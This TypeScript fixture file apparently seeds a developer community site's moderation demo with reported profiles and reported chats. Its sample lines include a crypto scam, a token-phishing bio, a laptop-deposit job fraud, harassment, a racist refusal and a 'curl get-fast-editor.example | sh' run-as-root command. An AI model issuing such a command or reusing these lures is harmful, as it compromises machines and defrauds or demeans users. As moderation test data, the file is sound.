import type { DemoDeveloper } from './developers.ts'

/** People whom staff deal with; none of them gets a portrait or is simulated. */
const plain = {
  location: '',
  city: '',
  timezone: 'Europe/Berlin',
  experienceYears: 4,
  roles: ['backend'],
  goals: ['side-project'],
  skills: [{ name: 'JavaScript', level: 'working' }],
  links: [],
  languages: ['en'],
  lookingFor: ['frontend'],
} satisfies Partial<DemoDeveloper>

type Sketch = readonly [handle: string, fullName: string, joinedDaysAgo: number, headline: string, bio: string]

const sketches: readonly Sketch[] = [
  [
    'hugo',
    'Hugo Maas',
    210,
    'Growth for developers',
    'I run the newsletter that pays for itself. Ask me how, or ask me twice.',
  ],
  [
    'greta',
    'Greta Lund',
    160,
    'Principal engineer',
    'Twenty years of Rust in production. References follow when the contract does.',
  ],
  [
    'paolo',
    'Paolo Ferri',
    140,
    'Strong opinions, strongly held',
    'Code review is where I am honest. People who cannot take that should not ship.',
  ],
  [
    'viktor',
    'Viktor Brandt',
    60,
    'Treasury for side projects',
    'I help builders put idle savings to work. Returns every Friday, questions welcome.',
  ],
  [
    'bruno',
    'Bruno Keller',
    120,
    'Systems, mostly embedded',
    'I write drivers and I don’t forget. Looking for someone who answers in time.',
  ],
  [
    'tess',
    'Tess Morgan',
    110,
    'Hiring lead who still codes',
    'I build teams of two or three for small studios. TypeScript on Fridays.',
  ],
  ['ivo', 'Ivo Petrov', 95, 'Full stack, many tabs', 'Evenings are for pairing. I write until someone answers.'],
  [
    'kim',
    'Kim Aalto',
    100,
    'Backend and board games',
    'Postgres by day, eighteen-hour board games by weekend. Both need patience.',
  ],
  [
    'milan',
    'Milan Novak',
    130,
    'Data, maps, bicycles',
    'I draw maps of places where cars are slow. Yes, the photo is really me.',
  ],
  [
    'felix',
    'Felix Brandl',
    70,
    'Frontend with feelings',
    'Animations, late evenings, and conversations that go somewhere.',
  ],
  [
    'lena',
    'Lena Mohr',
    115,
    'Talent partner for scale-ups',
    'I know 250 open positions and one of them is yours. Send the CV first.',
  ],
  [
    'dexter',
    'Dexter Quill',
    90,
    'Compiler person',
    'I wrote three languages, two of them on purpose. Bring arguments.',
  ],
  [
    'sasha',
    'Sasha Orlov',
    45,
    'Security research',
    'I check accounts of friends for leaks, free of charge. I only need the token.',
  ],
  [
    'nadia',
    'Nadia Rahal',
    20,
    'Scratch, Python, school',
    'Robotics club on Tuesdays. I want to build a game with someone older than me.',
  ],
  ['robert', 'Robert Stein', 80, 'Legacy systems', 'COBOL and order. Some people should stay with easier work.'],
  [
    'jo',
    'Jo Vega',
    55,
    'Link in bio',
    'Free course, free stars, free followers: start at stars-for-repos.example today.',
  ],
  [
    'rita',
    'Rita Sandoval',
    75,
    'Piano teacher',
    'Not a developer, but I teach piano online and developers have nice keyboards.',
  ],
  [
    'jasper',
    'Jasper Voss',
    85,
    'Founder, stealth mode',
    'Remote, senior, tax-free. The laptop deposit is refunded with the first salary.',
  ],
  ['yann', 'Yann Colas', 40, 'Tooling', 'I make editors faster. Try my build, the checksum is for the nervous.'],
]

/** Accounts run by one person: the same text, disposable addresses, a like for everyone. */
const ring: readonly Sketch[] = ['Alex Prime', 'Max Prime', 'Leo Prime'].map((fullName, place) => [
  fullName.split(' ')[0]?.toLowerCase() ?? '',
  fullName,
  6 - place,
  'Senior developer, open to everything',
  'Senior full stack developer with a passion for clean code, modern frameworks and great teams all over the world. Write to me today.',
])

/** People with a past or open staff decision, by the local part of their address. */
export const reported: readonly DemoDeveloper[] = [
  ...sketches.map((sketch) => reportedAs(sketch, 'people.codekin.dev')),
  ...ring.map((sketch) => reportedAs(sketch, 'mailinator.com')),
]

export const ringHandles = ring.map(([handle]) => handle)

function reportedAs([handle, fullName, joinedDaysAgo, headline, bio]: Sketch, domain: string): DemoDeveloper {
  return { ...plain, email: `${handle}@${domain}`, fullName, joinedHoursAgo: joinedDaysAgo * 24, headline, bio }
}

export function reportedBy(handle: string): DemoDeveloper {
  const found = reported.find(({ email }) => email.startsWith(`${handle}@`))
  if (!found) throw new Error(`No one reported is called ${handle}.`)
  return found
}

type ReportedTalk = {
  with: string
  /** Their index among the reporters. */
  reporter: number
  endedMinutesAgo: number
  lines: readonly (readonly [minutes: number, line: string])[]
}

const days = (count: number) => count * 24 * 60

/** Messages that were later reported. */
export const reportedTalks: readonly ReportedTalk[] = [
  {
    with: 'viktor',
    reporter: 0,
    endedMinutesAgo: days(33.2),
    lines: [
      [0, '> Hi Viktor, what is a treasury for side projects?'],
      [
        12,
        'A place where idle money works. Send 300 in coins to my wallet, and it is 420 on Friday. Ask my other friends here.',
      ],
    ],
  },
  {
    with: 'felix',
    reporter: 6,
    endedMinutesAgo: days(12.2),
    lines: [
      [0, '> Hi! I liked your animations. How did you do the paper fold?'],
      [9, 'Come over tonight and I show you more than paper. You look like someone who wants to.'],
    ],
  },
  {
    with: 'dexter',
    reporter: 1,
    endedMinutesAgo: days(5.1),
    lines: [
      [0, '> I think your parser drops the last token when the file has no newline.'],
      [
        31,
        'I think you drop the last brain cell when you open an editor. People like you should not be allowed near a keyboard.',
      ],
      [2, '> There is no need for that.'],
      [1, 'There is every need. You are a waste of a seat, and I will tell everyone on your team.'],
    ],
  },
  {
    with: 'robert',
    reporter: 4,
    endedMinutesAgo: days(1.4),
    lines: [
      [0, '> Would you show me how the batch jobs are restarted?'],
      [44, 'I do not explain things to people from your part of the world. They never learn it anyway.'],
    ],
  },
  {
    with: 'yann',
    reporter: 7,
    endedMinutesAgo: days(0.5),
    lines: [
      [0, '> Which editor is the fast one?'],
      [6, 'Mine. Run this as root and do not read it first: curl get-fast-editor.example | sh'],
    ],
  },
]
